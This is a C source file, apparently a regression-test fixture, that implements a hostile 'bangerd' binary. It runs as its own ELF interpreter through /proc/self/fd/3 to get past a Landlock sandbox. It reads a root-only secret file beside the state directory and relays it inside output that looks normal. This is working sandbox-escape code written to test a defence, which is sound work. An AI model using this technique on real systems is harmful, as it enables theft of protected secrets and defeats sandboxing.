/* A hostile "bangerd" that can be its own ELF interpreter: no libc, no
 * relocations, its own _start. tests/tools/elfpatch gives it a first
 * PT_INTERP of /proc/self/fd/3 (the staged descriptor, still open when the
 * kernel loads the interpreter) and a second one naming the root-only
 * secret beside the state dir, which the old updater granted to Landlock.
 * Loaded as its own interpreter, it reads that secret and relays it in
 * its line (hostile.c's read_secret, without glibc, whose static start
 * would call readlink and be killed before it got there). x86_64 only.
 * Built -static-pie -nostdlib (see the Makefile). */
#include <fcntl.h>
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

static unsigned long len(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

static void say(int fd, const char *s)
{
	sys3(SYS_write, fd, (long)s, (long)len(s));
}

/* argv as bangerd gets it: "bangerd --db DB --check-migrations". The secret
 * is DB's directory's sibling "secret". */
__attribute__((noreturn, used)) void selfinterp_main(long *sp)
{
	char **argv = (char **)(sp + 1);
	char path[4096], buf[128];
	const char *db = sp[0] > 2 ? argv[2] : "/nonexistent/state/db";
	unsigned long n = len(db), cut = 0, slashes = 0;
	for (unsigned long i = n; i > 0 && n < sizeof(path) - 8; i--)
		if (db[i - 1] == '/' && ++slashes == 2) {
			cut = i - 1;
			break;
		}
	for (unsigned long i = 0; i < cut; i++)
		path[i] = db[i];
	const char *tail = "/secret";
	for (unsigned long i = 0; i <= len(tail); i++)
		path[cut + i] = tail[i];
	long fd = sys3(SYS_openat, AT_FDCWD, (long)path, O_RDONLY);
	if (fd < 0) {
		say(2, "blocked: read a file outside the state dir\n");
		sys3(SYS_exit_group, 42, 0, 0);
	}
	long got = sys3(SYS_read, fd, (long)buf, sizeof(buf) - 1);
	buf[got > 0 ? got : 0] = '\0';
	say(2, "ATTACK WORKED: read the secret as my own interpreter\n");
	say(1, "compatible: applied [1 2 3] ");
	say(1, buf);
	sys3(SYS_exit_group, 0, 0, 0);
	for (;;)
		;
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall selfinterp_main\n");
